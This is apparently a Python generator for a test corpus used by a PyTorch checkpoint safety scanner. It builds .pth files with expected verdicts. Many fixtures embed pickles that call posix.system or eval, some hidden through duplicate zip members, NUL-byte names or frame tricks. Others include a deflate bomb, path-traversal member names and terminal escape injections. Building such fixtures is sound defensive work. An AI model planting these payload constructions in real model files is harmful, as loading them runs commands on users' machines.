    # U27: TorchScript markers -> EUNSUPPORTED (benign data.pkl)
    for slug, extra in (('constants-pkl', [('constants.pkl', dumps(()))]),
                        ('code-member', [('code/__torch__.py', b'def forward(self):\n  return 1\n')]),
                        ('constants-and-code', [('constants.pkl', dumps(())), ('code/__torch__.py', b'import os\n')])):
        add('u27-torchscript-%s.pth' % slug, 'U27', 'EUNSUPPORTED',
            'TorchScript marker (%s) next to a benign data.pkl: refused, never dispatched' % ', '.join(r for r, _ in extra),
            torch_zip(Z0_PKL, extra=extra), verdict='unsafe')
    # U28: legacy magic computed by eval: bytes 0..14 are not the magic -> not a legacy stream at all
    magic_eval = dumps(Call(Glob('__builtin__', 'eval'), ('0x1950A86A20F9469CFC6C',)))
    add('u28a-legacy-magic-eval.pth', 'U28', 'ENOTZIP',
        'legacy stream whose magic pickle is eval(0x1950...): bytes 0..14 are not the magic, so neither zip nor legacy',
        legacy_stream(magic=magic_eval, keys_pkl=payload('posix', 'system')), verdict='unsafe')
    add('u28b-legacy-payload-in-keys.pth', 'U28', 'EUNSAFE', 'real legacy magic, pickle 5 (the key list) calls posix.system',
        legacy_stream(keys_pkl=payload('posix', 'system')))
    bad_obj = legacy_obj()
    bad_obj['x'] = Call(Glob('posix', 'system'), (CMD,))
    add('u29-legacy-payload-in-pickle4.pth', 'U29', 'EUNSAFE', 'legacy stream with a posix.system REDUCE inside the object pickle',
        legacy_stream(obj=bad_obj))
    # U30: SETITEM(S) on the rebuilt tensor (CVE-2026-24747 primitive); every global is allowlisted
    t30 = dumps(tensor('0', size=(4,), stride=(1,)), proto=False)[:-1]
    add('u30a-setitems-on-tensor.pth', 'U30', 'EUNSAFE', 'MARK int float ... SETITEMS whose target is a tensor',
        torch_zip(P.PROTO + b'\x02' + P.EMPTY_DICT + op_str('weight') + t30 + P.MARK + op_int(0)
                  + P.BINFLOAT + struct.pack('>d', 1e30) + op_int(3) + P.BINFLOAT + struct.pack('>d', 2.0)
                  + P.SETITEMS + P.SETITEM + P.STOP))
    add('u30b-setitem-on-tensor.pth', 'U30', 'EUNSAFE', 'SETITEM whose target is a tensor (index 1000000, out of range)',
        torch_zip(P.PROTO + b'\x02' + P.EMPTY_DICT + op_str('weight') + t30 + op_int(1000000)
                  + P.BINFLOAT + struct.pack('>d', 1.0) + P.SETITEM + P.SETITEM + P.STOP))
    add('u31-broken-after-payload.pth', 'U31', 'EUNSAFE', 'posix.system REDUCE followed by \\xff\\xff and no STOP (nullifAI)',
        zpkl(payload('posix', 'system')[:-1] + b'\xff\xff'))
    add('u32-sevenzip-wrapped.pth', 'U32', 'ENOTZIP', '7z archive (Copy coder) whose member is a checkpoint with a posix.system data.pkl',
        sevenzip_stored('model.pth', zpkl(payload('posix', 'system'))), verdict='unsafe')


def zip_variant(ents=None, **kw):
    return build_zip(ents if ents is not None else torch_ents(Z0_PKL), **kw)


def set_kw(ents, name_suffix, **kw):
    for e in ents:
        if e.name.endswith(name_suffix.encode()):
            e.kw.update(kw)
            return ents
    raise KeyError(name_suffix)


def patch(b, off, new):
    b = bytearray(b)
    b[off:off + len(new)] = new
    return bytes(b)


def gen_z():
    evil = payload('posix', 'system')
    add('z01a-wrong-ext-member.pth', 'Z01', 'EFORMAT', 'Z0 plus archive/config.json holding a benign pickle (unexpected member)',
        torch_zip(Z0_PKL, extra=[('config.json', dumps({'a': 1}))]))
    add('z01b-wrong-ext-member-evil.pth', 'Z01', 'EFORMAT',
        'Z0 plus archive/config.json holding a posix.system pickle; open rejects the unexpected member (verify would also report the global)',
        torch_zip(Z0_PKL, extra=[('config.json', evil)]), verdict='unsafe')
    for bit, cid, slug in ((0x1, 'Z03', 'encrypted'), (0x20, 'Z04', 'patch'), (0x40, 'Z04', 'strong-encryption')):
        add('%s-flag-%s.pth' % (cid.lower(), slug), cid, 'EFORMAT', 'general purpose bit 0x%x set on data.pkl in both headers' % bit,
            zip_variant(set_kw(torch_ents(Z0_PKL), 'data.pkl', flags=0x0808 | bit))[0])
    # Z05: CRC mismatch (pickle still valid: 'weight' -> 'weighu')
    ents = torch_ents(Z0_PKL)
    good_crc = zlib.crc32(Z0_PKL)
    flipped = Z0_PKL.replace(b'weight', b'weighu')
    ents[0] = Ent('archive/data.pkl', flipped, crc=good_crc)
    add('z05a-crc-mismatch-data-pkl.pth', 'Z05', 'ECRC', 'one byte of data.pkl changed (still a valid pickle), CRC of the original kept',
        build_zip(ents)[0])
    ents = torch_ents(Z0_PKL)
    ents[2] = Ent('archive/data/0', f32(1.0, 2.0, 3.0, 5.0), crc=zlib.crc32(DATA0))
    add('z05b-crc-mismatch-data-record.pth', 'Z05', 'ECRC', 'one byte of data/0 changed, CRC of the original kept', build_zip(ents)[0])
    # Z06: duplicates
    ents = torch_ents(Z0_PKL)
    ents.insert(4, Ent('archive/data.pkl', evil))
    add('z06a-duplicate-member.pth', 'Z06', 'EFORMAT', 'two archive/data.pkl entries: benign first, posix.system last', build_zip(ents)[0], verdict='unsafe')
    ents = torch_ents(Z0_PKL)
    ents.insert(0, Ent('archive/data.pkl', evil))
    add('z06b-duplicate-member-evil-first.pth', 'Z06', 'EFORMAT', 'two archive/data.pkl entries: posix.system first, benign last', build_zip(ents)[0], verdict='unsafe')
    ents = torch_ents(Z0_PKL)
    ents.insert(2, Ent('archive/BYTEORDER', b'big'))
    add('z06c-case-colliding-member.pth', 'Z06', 'EFORMAT', 'archive/byteorder and archive/BYTEORDER (miniz looks names up case-insensitively)',
        build_zip(ents)[0])
    # Z08: NUL in name
    ents = torch_ents(Z0_PKL)
    ents.insert(1, Ent(b'archive/data.pkl\x00x', evil))
    add('z08-nul-in-name.pth', 'Z08', 'EFORMAT', 'member archive/data.pkl\\0x (posix.system) next to the real archive/data.pkl', build_zip(ents)[0],
        verdict='unsafe')
    # Z09: two prefixes, first CD entry chooses the evil tree
    ents = [Ent('evil/version', b'3\n'), Ent('evil/data.pkl', evil)] + torch_ents(Z0_PKL)
    add('z09-two-prefixes.pth', 'Z09', 'EFORMAT', 'first entry evil/version selects prefix evil (evil/data.pkl is posix.system), full archive/ tree follows',
        build_zip(ents)[0], verdict='unsafe')
    add('z10-flat-layout.pth', 'Z10', 'EFORMAT', 'members without a directory prefix (data.pkl, byteorder, data/0, version)',
        build_zip([Ent(e.name[len(b'archive/'):], e.data) for e in torch_ents(Z0_PKL, sid=False)])[0])
    for slug, nm in (('dotdot', 'archive/../../x'), ('absolute', '/archive/abs'), ('backslash', 'archive\\data.pkl'),
                     ('drive-letter', 'C:archive/x')):
        ents = torch_ents(Z0_PKL)
        ents.insert(3, Ent(nm, b'x'))
        add('z11-traversal-%s.pth' % slug, 'Z11', 'EFORMAT', 'extra member named %r' % nm, build_zip(ents)[0])
    z0 = torch_zip(Z0_PKL)
    add('z13a-leading-junk-zip.pth', 'Z13', 'ENOTZIP', '64 junk bytes before Z0, offsets not adjusted', b'J' * 64 + z0)
    ents = torch_ents(Z0_PKL)
    # offsets adjusted: build with a 64-byte head start by placing the junk as a fake prefix
    raw, info = build_zip(ents)
    adj = bytearray(b'J' * 64 + raw)
    for i, coff in enumerate(info['cdent']):
        struct.pack_into('<I', adj, 64 + coff + 42, info['hdr'][i] + 64)
    struct.pack_into('<Q', adj, 64 + info['z64'] + 48, info['cd'] + 64)
    struct.pack_into('<Q', adj, 64 + info['z64loc'] + 8, info['z64'] + 64)
    struct.pack_into('<I', adj, 64 + info['eocd'] + 16, info['cd'] + 64)
    add('z13b-leading-junk-zip-adjusted.pth', 'Z13', 'ENOTZIP', '64 junk bytes before Z0 with every offset adjusted (a valid zip to zipfile)', bytes(adj))
    # Z14: second EOCD in the comment, pointing at a different central directory
    raw, info = build_zip(torch_ents(Z0_PKL))
    fake = struct.pack('<IHHHHIIH', SIG_EOCD, 0, 0, 1, 1, 46 + 16, 0, 0)
    add('z14-double-eocd.pth', 'Z14', 'EFORMAT', 'Z0 whose EOCD comment holds a second EOCD pointing at another central directory',
        build_zip(torch_ents(Z0_PKL), comment=fake)[0])
    add('z15a-count-mismatch-eocd.pth', 'Z15', 'EFORMAT', 'EOCD and zip64 EOCD say 4 entries, the central directory has 5',
        zip_variant(eocd={'n': 4, 'n_disk': 4}, z64={'n': 4, 'n_disk': 4})[0])
    add('z15b-count-mismatch-zip64.pth', 'Z15', 'EFORMAT', 'zip64 EOCD says 6 entries, classic EOCD 5', zip_variant(z64={'n': 6, 'n_disk': 6})[0])
    add('z15c-count-mismatch-disk.pth', 'Z15', 'EFORMAT', 'entries on this disk (4) differ from total entries (5)',
        zip_variant(eocd={'n_disk': 4}, z64={'n_disk': 4})[0])
    add('z16a-zip64-locator-beyond-eof.pth', 'Z16', 'EFORMAT', 'zip64 locator points beyond the end of the file', zip_variant(loc={'off': 1 << 40})[0])
    add('z16b-zip64-locator-into-data.pth', 'Z16', 'EFORMAT', 'zip64 locator points into local record data', zip_variant(loc={'off': 64})[0])
    add('z17-zip64-missing-extra.pth', 'Z17', 'EFORMAT', 'central sizes 0xFFFFFFFF for data/0 with no zip64 extra field',
        zip_variant(set_kw(torch_ents(Z0_PKL), 'data/0', cd_csize=0xFFFFFFFF, cd_usize=0xFFFFFFFF))[0])
    # Z18: deflate bomb: 64 MiB of zeros deflated (ratio just above 1000, deflate's limit is ~1032)
    big = bytes(64 << 20)
    comp = deflate(big)
    assert len(big) > 1000 * len(comp), len(comp)
    pkl18 = dumps(od([('weight', tensor('0', numel=len(big) // 4, size=(len(big) // 4,), stride=(1,)))]))
    ents = torch_ents(pkl18, storages={'0': b''})
    ents[2] = Ent('archive/data/0', b'', method=8, payload=comp, usize=len(big), crc=zlib.crc32(big))
    add('z18-deflate-bomb.pth', 'Z18', 'ELIMIT', 'data/0 deflated: 64 MiB of zeros in %d bytes (ratio > 1000)' % len(comp), build_zip(ents)[0])
    # Z19: data/1's local header lies inside data/0's data
    hdr1 = struct.pack('<IHHHHHIIIHH', SIG_LOCAL, 0, 0x0800, 0, 0, 0, zlib.crc32(DATA0), 16, 16, 14, 0) + b'archive/data/1' + DATA0
    hdr1 += b'\x00' * ((-len(hdr1)) % 4)
    pkl19 = dumps(od([('a', tensor('0', numel=len(hdr1) // 4, size=(len(hdr1) // 4,), stride=(1,))),
                      ('b', tensor('1', size=(4,), stride=(1,)))]))
    data0_off = build_zip(torch_ents(pkl19, storages={'0': hdr1}))[1]['data'][2]
    ents = torch_ents(pkl19, storages={'0': hdr1})
    ents.insert(3, Ent('archive/data/1', DATA0, flags=0x0800, cd_only=True, cd_offset=data0_off))
    buf = build_zip(ents)[0]
    assert buf[data0_off:data0_off + 4] == b'PK\x03\x04'
    add('z19-overlapping-entries.pth', 'Z19', 'EFORMAT', "data/1's central entry points at a local header embedded inside data/0's data (quoted overlap)",
        bytes(buf))
    add('z20a-declared-size-lie.pth', 'Z20', 'EFORMAT', 'central uncompressed size 0xFFFFFFFE for the 16-byte stored data/0',
        zip_variant(set_kw(torch_ents(Z0_PKL), 'data/0', cd_usize=0xFFFFFFFE, desc_usize=0xFFFFFFFE))[0])
    add('z20b-declared-size-lie-both.pth', 'Z20', 'EFORMAT', 'central compressed and uncompressed sizes 0xFFFFFFFE for a 16-byte record (past EOF)',
        zip_variant(set_kw(torch_ents(Z0_PKL), 'data/0', cd_usize=0xFFFFFFFE, cd_csize=0xFFFFFFFE,
                           desc_usize=0xFFFFFFFE, desc_csize=0xFFFFFFFE))[0])
    raw, info = build_zip(torch_ents(Z0_PKL))
    add('z21a-truncated-mid-cd.pth', 'Z21', 'EFORMAT', 'Z0 cut in the middle of the central directory', raw[:info['cd'] + 70])
    add('z21b-truncated-mid-record.pth', 'Z21', 'EFORMAT', 'Z0 cut in the middle of data.pkl', raw[:info['data'][0] + 40])
    add('z21c-truncated-mid-eocd64.pth', 'Z21', 'EFORMAT', 'Z0 cut in the middle of the zip64 EOCD record', raw[:info['z64'] + 30])
    for m in (12, 14, 93, 99):
        add('z22-unsupported-method-%d.pth' % m, 'Z22', 'EFORMAT', 'data.pkl with compression method %d (bytes kept stored)' % m,
            zip_variant(set_kw(torch_ents(Z0_PKL), 'data.pkl', local_method=m, cd_method=m))[0])
    add('z23-descriptor-mismatch.pth', 'Z23', 'EFORMAT', 'flag bit 3, local sizes 0, data descriptor of data/0 says 12 bytes, central says 16',
        zip_variant(set_kw(torch_ents(Z0_PKL), 'data/0', desc_csize=12, desc_usize=12))[0])
    add('z24a-empty-archive-eocd-only.pth', 'Z24', 'ENOTZIP', 'an EOCD record alone (no local header at offset 0)', build_zip([], zip64_end=False)[0])
    add('z24b-empty-archive-dir-only.pth', 'Z24', 'EFORMAT', 'a zip holding only the directory entry archive/ (no data.pkl)',
        build_zip([Ent('archive/', b'', align=False)])[0])
    tar = tar_bytes([('sys_info', dumps(SYS_INFO)), ('pickle', dumps({'w': 0})),
                     ('storages', dumps(0)), ('tensors', dumps(0))])
    assert tar[257:262] == b'ustar'
    add('z25-tar-legacy.pth', 'Z25', 'EUNSUPPORTED', 'pre-0.1.10 tar checkpoint (sys_info, pickle, storages, tensors members)', tar)
    ents = torch_ents(Z0_PKL)
    ents.insert(3, Ent('archive/\x1b[31mred\x07\r', b'x'))
    add('z26a-control-char-member.pth', 'Z26', 'EFORMAT', 'member name with ESC, BEL and CR (report must escape them)', build_zip(ents)[0])
    add('z26b-control-char-global.pth', 'Z26', 'EUNSAFE', 'GLOBAL module name with an OSC title sequence and BEL (report must escape them)',
        zpkl(payload('torch\x1b]0;pwned\x07', 'system')), verdict='unsafe')
    ents = torch_ents(Z0_PKL)
    ents.insert(3, Ent(b'archive/\xc2\x9b31m\xc2\x85x', b'x'))
    add('z26c-c1-control-member.pth', 'Z26', 'EFORMAT', 'member name with UTF-8 encoded C1 controls (CSI U+009B, NEL U+0085)', build_zip(ents)[0])
    ents = torch_ents(Z0_PKL)
    ents.insert(3, Ent(b'archive/\xff\xfe', b'x', flags=0x0008))
    add('z27-non-utf8-name.pth', 'Z27', 'EFORMAT', 'central name bytes \\xff\\xfe without flag bit 11', build_zip(ents)[0])


def gen_v():
    z0st = {'0': DATA0}
    pr = P.PROTO + b'\x02'
    add('v01-truncated-no-stop.pth', 'V01', 'EFORMAT', 'Z0 data.pkl with its final STOP removed', torch_zip(Z0_PKL[:-1]))
    add('v02a-trailing-after-stop.pth', 'V02', 'EFORMAT', 'Z0 data.pkl followed by 100 zero bytes', torch_zip(Z0_PKL + b'\x00' * 100))
    add('v02b-second-pickle.pth', 'V02', 'EFORMAT', 'Z0 data.pkl followed by a second benign pickle', torch_zip(Z0_PKL + dumps({})))
    add('v02c-second-pickle-evil.pth', 'V02', 'EUNSAFE', 'Z0 data.pkl followed by a second pickle calling posix.system (trailing bytes are scanned)',
        torch_zip(Z0_PKL + payload('posix', 'system')))
    add('v03a-stack-underflow-tuple3.pth', 'V03', 'EFORMAT', 'TUPLE3 with two items on the stack', zpkl(pr + op_int(1) + op_int(2) + P.TUPLE3 + P.STOP))
    add('v03b-stack-underflow-reduce.pth', 'V03', 'EFORMAT', 'REDUCE on an empty stack', zpkl(pr + P.REDUCE + P.STOP))
    add('v03c-stack-underflow-setitem.pth', 'V03', 'EFORMAT', 'SETITEM with a dict and one item', zpkl(pr + P.EMPTY_DICT + op_str('k') + P.SETITEM + P.STOP))
    add('v04a-appends-without-mark.pth', 'V04', 'EFORMAT', 'APPENDS with no MARK', zpkl(pr + P.EMPTY_LIST + op_str('a') + P.APPENDS + P.STOP))
    add('v04b-tuple-without-mark.pth', 'V04', 'EFORMAT', 'TUPLE with no MARK', zpkl(pr + op_int(1) + op_int(2) + P.TUPLE + P.STOP))
    add('v04c-mark-open-at-stop.pth', 'V04', 'OK', 'MARK still open at STOP (the top item is the result, as in torch)', zpkl(pr + P.MARK + P.EMPTY_DICT + P.STOP))
    add('v05-setitems-odd.pth', 'V05', 'EFORMAT', 'MARK, 3 items, SETITEMS',
        zpkl(pr + P.EMPTY_DICT + P.MARK + op_str('a') + op_int(1) + op_str('b') + P.SETITEMS + P.STOP))
    add('v06-dangling-binget.pth', 'V06', 'EFORMAT', 'BINGET 5 when only memo 0 and 1 are set',
        zpkl(pr + P.EMPTY_DICT + P.BINPUT + b'\x00' + op_str('a') + P.BINPUT + b'\x01' + P.BINGET + b'\x05' + P.SETITEM + P.STOP))
    add('v07a-huge-put-index.pth', 'V07', 'EFORMAT', 'LONG_BINPUT 0xFFFFFFFF as the second opcode (index >= opcodes executed)',
        zpkl(pr + P.EMPTY_DICT + P.LONG_BINPUT + b'\xff\xff\xff\xff' + P.STOP))
    add('v07b-put-index-1m.pth', 'V07', 'EFORMAT', 'LONG_BINPUT 1048576 early in the stream',
        zpkl(pr + P.EMPTY_DICT + P.LONG_BINPUT + struct.pack('<I', 1 << 20) + P.STOP))
    add('v08a-self-cycle-list.pth', 'V08', 'EFORMAT', 'EMPTY_LIST BINPUT 0 BINGET 0 APPEND: a list containing itself',
        zpkl(pr + P.EMPTY_LIST + P.BINPUT + b'\x00' + P.BINGET + b'\x00' + P.APPEND + P.STOP))
    add('v08b-self-cycle-dict.pth', 'V08', 'EFORMAT', 'a dict whose value is itself',
        zpkl(pr + P.EMPTY_DICT + P.BINPUT + b'\x00' + op_str('self') + P.BINGET + b'\x00' + P.SETITEM + P.STOP))
    add('v08c-indirect-cycle.pth', 'V08', 'EFORMAT', 'list a holds list b which holds a',
        zpkl(pr + P.EMPTY_LIST + P.BINPUT + b'\x00' + P.EMPTY_LIST + P.BINPUT + b'\x01' + P.BINGET + b'\x00' + P.APPEND
             + P.APPEND + P.STOP))
    add('v10-dup-laughs.pth', 'V10', 'EFORMAT', 'DUP TUPLE2 thirty times (2^30 expansion for a copying reader); DUP is outside the subset',
        zpkl(pr + op_int(1) + (P.DUP + P.TUPLE2) * 30 + P.STOP))
    n = 200000
    add('v11a-deep-nesting-lists.pth', 'V11', 'ELIMIT', '200,000 nested EMPTY_LIST + APPEND',
        zpkl(pr + P.EMPTY_LIST * (n + 1) + P.APPEND * n + P.STOP))
    add('v11b-deep-nesting-marks.pth', 'V11', 'ELIMIT', '200,000 open MARKs', zpkl(pr + P.MARK * n + P.EMPTY_LIST + P.STOP))
    add('v11c-deep-nesting-tuples.pth', 'V11', 'ELIMIT', 'EMPTY_TUPLE then 100,000 TUPLE1', zpkl(pr + P.EMPTY_TUPLE + P.TUPLE1 * 100000 + P.STOP))
    add('v11d-deep-nesting-dicts.pth', 'V11', 'ELIMIT', '2,000 dicts nested through SETITEM',
        zpkl(pr + (P.EMPTY_DICT + op_str('k')) * 2000 + P.EMPTY_DICT + P.SETITEM * 2000 + P.STOP))
    add('v11e-nesting-just-over.pth', 'V11', 'ELIMIT', '1,100 nested lists (the limit is 1,000)',
        zpkl(pr + P.EMPTY_LIST * 1101 + P.APPEND * 1100 + P.STOP))
    add('v12a-length-lie-binunicode.pth', 'V12', 'EFORMAT', 'BINUNICODE length 0x7FFFFFFF with 3 bytes left',
        zpkl(pr + P.BINUNICODE + struct.pack('<I', 0x7FFFFFFF) + b'abc'))
    add('v12b-length-lie-short-binstring.pth', 'V12', 'EFORMAT', 'SHORT_BINSTRING length 255 with 1 byte left', zpkl(pr + P.SHORT_BINSTRING + b'\xffa'))
    add('v12c-length-lie-long1.pth', 'V12', 'EFORMAT', 'LONG1 length 200 at end of input', zpkl(pr + P.LONG1 + b'\xc8'))
    add('v13a-bad-utf8-binunicode.pth', 'V13', 'EFORMAT', 'BINUNICODE \\xff\\xfe as a dict key',
        zpkl(pr + P.EMPTY_DICT + P.BINUNICODE + struct.pack('<I', 2) + b'\xff\xfe' + op_int(1) + P.SETITEM + P.STOP))
    add('v13b-bad-utf8-global.pth', 'V13', 'EUNSAFE', 'GLOBAL mod / \\xf8 (invalid UTF-8): a name that is in no allowlist',
        zpkl(pr + P.GLOBAL + b'mod\n\xf8\n' + P.STOP), verdict='unsafe')
    add('v13c-bad-utf8-short-binstring.pth', 'V13', 'EFORMAT', 'SHORT_BINSTRING \\xc3\\x28 (invalid UTF-8) as a dict value',
        zpkl(pr + P.EMPTY_DICT + op_str('k') + P.SHORT_BINSTRING + b'\x02\xc3\x28' + P.SETITEM + P.STOP))
    add('v14-lone-surrogate.pth', 'V14', 'OK', 'BINUNICODE \\xed\\xa0\\x80 (lone surrogate) as a dict key, read as torch reads it',
        zpkl(pr + P.EMPTY_DICT + P.BINUNICODE + struct.pack('<I', 3) + b'\xed\xa0\x80' + op_int(1) + P.SETITEM + P.STOP))
    add('v15-unterminated-global.pth', 'V15', 'EFORMAT', 'GLOBAL torch._utils / _rebuild_tensor_v2 without the final newline at EOF',
        zpkl(pr + P.GLOBAL + b'torch._utils\n_rebuild_tensor_v2'))
    # V16: one file per out-of-subset opcode; each is the only oddity of an otherwise valid pickle
    ed = pr + P.EMPTY_DICT
    ops = [
        ('frame', 'FRAME', 'EFORMAT', pr + P.FRAME + struct.pack('<Q', 2) + P.EMPTY_DICT + P.STOP),
        ('stack-global', 'STACK_GLOBAL', 'EUNSAFE', pr + op_str('collections') + op_str('OrderedDict') + P.STACK_GLOBAL + P.EMPTY_TUPLE + P.REDUCE + P.STOP),
        ('memoize', 'MEMOIZE', 'EFORMAT', ed + P.MEMOIZE + P.STOP),
        ('binbytes', 'BINBYTES', 'EFORMAT', ed + op_str('b') + P.BINBYTES + struct.pack('<I', 3) + b'abc' + P.SETITEM + P.STOP),
        ('short-binunicode', 'SHORT_BINUNICODE', 'EFORMAT', ed + P.SHORT_BINUNICODE + b'\x01k' + op_int(1) + P.SETITEM + P.STOP),
        ('dup', 'DUP', 'EFORMAT', ed + op_str('k') + P.DUP + P.SETITEM + P.STOP),
        ('pop', 'POP', 'EFORMAT', ed + P.NONE + P.POP + P.STOP),
        ('ext1', 'EXT1', 'EUNSAFE', pr + P.EXT1 + b'\x01' + P.STOP),
        ('persid', 'PERSID (text)', 'EFORMAT', ed + op_str('k') + P.PERSID + b'0\n' + P.SETITEM + P.STOP),
        ('newobj-ex', 'NEWOBJ_EX', 'EUNSAFE', pr + op_global('collections', 'OrderedDict') + P.EMPTY_TUPLE + P.EMPTY_DICT + P.NEWOBJ_EX + P.STOP),
        # further opcodes outside the 34-opcode subset
        ('pop-mark', 'POP_MARK', 'EFORMAT', ed + P.MARK + P.NONE + P.POP_MARK + P.STOP),
        ('binstring', 'BINSTRING', 'EFORMAT', ed + op_str('k') + P.BINSTRING + struct.pack('<i', 1) + b'v' + P.SETITEM + P.STOP),
        ('long4', 'LONG4', 'EFORMAT', ed + op_str('k') + P.LONG4 + struct.pack('<i', 1) + b'\x05' + P.SETITEM + P.STOP),
        ('int-text', 'INT (text)', 'EFORMAT', ed + op_str('k') + P.INT + b'5\n' + P.SETITEM + P.STOP),
        ('long-text', 'LONG (text)', 'EFORMAT', ed + op_str('k') + P.LONG + b'5L\n' + P.SETITEM + P.STOP),
        ('float-text', 'FLOAT (text)', 'EFORMAT', ed + op_str('k') + P.FLOAT + b'1.5\n' + P.SETITEM + P.STOP),
        ('string-text', 'STRING (text)', 'EFORMAT', ed + op_str('k') + P.STRING + b"'v'\n" + P.SETITEM + P.STOP),
        ('unicode-text', 'UNICODE (text)', 'EFORMAT', ed + op_str('k') + P.UNICODE + b'v\n' + P.SETITEM + P.STOP),
        ('short-binbytes', 'SHORT_BINBYTES', 'EFORMAT', ed + op_str('k') + P.SHORT_BINBYTES + b'\x01v' + P.SETITEM + P.STOP),
        ('binbytes8', 'BINBYTES8', 'EFORMAT', ed + op_str('k') + P.BINBYTES8 + struct.pack('<Q', 1) + b'v' + P.SETITEM + P.STOP),
        ('binunicode8', 'BINUNICODE8', 'EFORMAT', ed + op_str('k') + P.BINUNICODE8 + struct.pack('<Q', 1) + b'v' + P.SETITEM + P.STOP),
        ('bytearray8', 'BYTEARRAY8', 'EFORMAT', ed + op_str('k') + P.BYTEARRAY8 + struct.pack('<Q', 1) + b'v' + P.SETITEM + P.STOP),
        ('additems', 'ADDITEMS', 'EFORMAT', pr + P.EMPTY_SET + P.MARK + op_int(1) + P.ADDITEMS + P.STOP),
        ('frozenset', 'FROZENSET', 'EFORMAT', pr + P.MARK + op_int(1) + P.FROZENSET + P.STOP),
        ('next-buffer', 'NEXT_BUFFER', 'EFORMAT', ed + op_str('k') + P.NEXT_BUFFER + P.SETITEM + P.STOP),
        ('readonly-buffer', 'READONLY_BUFFER', 'EFORMAT', ed + op_str('k') + op_str('v') + P.READONLY_BUFFER + P.SETITEM + P.STOP),
        ('list-text', 'LIST (text)', 'EFORMAT', pr + P.MARK + op_int(1) + P.LIST + P.STOP),
        ('dict-text', 'DICT (text)', 'EFORMAT', pr + P.MARK + op_str('k') + op_int(1) + P.DICT + P.STOP),
        ('put-text', 'PUT (text)', 'EFORMAT', ed + P.PUT + b'0\n' + P.STOP),
        ('get-text', 'GET (text)', 'EFORMAT', pr + op_str('v') + P.BINPUT + b'\x00' + P.GET + b'0\n' + P.TUPLE2 + P.STOP),
        ('ext2', 'EXT2', 'EUNSAFE', pr + P.EXT2 + b'\x01\x00' + P.STOP),
        ('ext4', 'EXT4', 'EUNSAFE', pr + P.EXT4 + b'\x01\x00\x00\x00' + P.STOP),
        ('inst-allowlisted', 'INST of collections.OrderedDict', 'EUNSAFE', pr + P.MARK + P.INST + b'collections\nOrderedDict\n' + P.STOP),
        ('obj-allowlisted', 'OBJ of collections.OrderedDict', 'EUNSAFE', pr + P.MARK + op_global('collections', 'OrderedDict') + P.OBJ + P.STOP),
    ]
    for slug, opname, exp, pkl in ops:
        add('v16-%s.pth' % slug, 'V16', exp, 'opcode %s, outside the weights-only subset%s' % (
            opname, ', reaches a global: unsafe even for an allowlisted name' if exp == 'EUNSAFE' else ''),
            zpkl(pkl))
    add('v17a-invalid-opcode.pth', 'V17', 'EFORMAT', 'byte \\xff (no opcode) mid-stream, no globals', zpkl(ed + b'\xff' + P.STOP))
    add('v17b-invalid-opcode-9f.pth', 'V17', 'EFORMAT', 'byte \\x9f (no opcode) mid-stream, no globals', zpkl(ed + b'\x9f' + P.STOP))
    buried = payload('posix', 'system')[2:-1]
    buried += b'N' * (0x107 - len(buried))
    add('v18a-frame-overrun.pth', 'V18', 'EFORMAT', 'PROTO 5, FRAME of 2 bytes, BINBYTES claiming 0x107 bytes that hide a GLOBAL/REDUCE',
        zpkl(P.PROTO + b'\x05' + P.FRAME + struct.pack('<Q', 2) + P.BINBYTES + struct.pack('<I', 0x107) + buried + P.STOP))
    rest = payload('posix', 'system')[2:]
    add('v18b-frame-then-global.pth', 'V18', 'EUNSAFE', 'PROTO 5, a well-formed FRAME holding GLOBAL posix.system (an out-of-subset opcode must not end the scan)',
        zpkl(P.PROTO + b'\x05' + P.FRAME + struct.pack('<Q', len(rest)) + rest))
    add('v19a-proto-6.pth', 'V19', 'OK', 'Z0 data.pkl with PROTO 6', torch_zip(P.PROTO + b'\x06' + Z0_PKL[2:]))
    add('v19b-proto-not-first.pth', 'V19', 'OK', 'PROTO 2 after the first opcode',
        zpkl(P.EMPTY_DICT + P.PROTO + b'\x02' + P.STOP))
    add('v19c-proto-twice.pth', 'V19', 'OK', 'two PROTO 2 opcodes', torch_zip(P.PROTO + b'\x02' + Z0_PKL))
    add('v19d-proto-4.pth', 'V19', 'OK', 'Z0 data.pkl declaring PROTO 4 without FRAME (torch only warns)', torch_zip(P.PROTO + b'\x04' + Z0_PKL[2:]))
    add('v19e-proto-0.pth', 'V19', 'OK', 'Z0 data.pkl declaring PROTO 0', torch_zip(P.PROTO + b'\x00' + Z0_PKL[2:]))
    add('v20a-append-on-dict.pth', 'V20', 'EFORMAT', 'EMPTY_DICT, value, APPEND', zpkl(ed + op_int(1) + P.APPEND + P.STOP))
    add('v20b-append-on-tuple.pth', 'V20', 'EFORMAT', 'EMPTY_TUPLE, value, APPEND', zpkl(pr + P.EMPTY_TUPLE + op_int(1) + P.APPEND + P.STOP))
    add('v20c-appends-on-tensor.pth', 'V20', 'EFORMAT', 'MARK value APPENDS onto a rebuilt tensor',
        torch_zip(pr + dumps(tensor('0', size=(4,), stride=(1,)), proto=False)[:-1] + P.MARK + op_int(1) + P.APPENDS + P.STOP))
    add('v21a-newobj-no-build.pth', 'V21', 'OK', 'NEWOBJ collections.OrderedDict (allowlisted) never followed by BUILD: an empty OrderedDict, as cls.__new__ makes',
        zpkl(dumps(Call(Glob('collections', 'OrderedDict'), (), newobj=True))))
    add('v21b-newobj-size.pth', 'V21', 'OK', 'NEWOBJ torch.Size((1, 2)): torch.Size([1, 2]), as cls.__new__ makes',
        zpkl(dumps(Call(Glob('torch', 'Size'), ((1, 2),), newobj=True))))

    def pid_case(slug, pid_value, why, expect='EFORMAT', storages=None):
        add('v22-persid-%s.pth' % slug, 'V22', expect, why,
            torch_zip(dumps(od([('weight', tensor(pid_obj=PersId(pid_value), size=(4,), stride=(1,)))])),
                      storages=z0st if storages is None else storages))
    FS = Glob('torch', 'FloatStorage')
    pid_case('int', 0, 'BINPERSID with an int pid')
    pid_case('4-tuple', ('storage', FS, '0', 'cpu'), 'BINPERSID with a 4-tuple')
    pid_case('module', ('module', FS, '0', 'cpu', 4), "pid typename 'module'")
    pid_case('key-dotdot', ('storage', FS, '../1', 'cpu', 4), "pid key '../1'", storages={})
    pid_case('numel-str', ('storage', FS, '0', 'cpu', '4'), 'pid numel is a string')
    pid_case('location-int', ('storage', FS, '0', 0, 4), 'pid location is an int')
    pid_case('location-evil', ('storage', FS, '0', 'evil', 4),
             "pid location 'evil': kept as text; torch restores it only with a map_location",
             expect='OK')
    pid_case('location-cuda-no-index-ok', ('storage', FS, '0', 'cuda:1', 4),
             "pid location 'cuda:1': informational to ptc, tensors stay on the host", expect='OK')
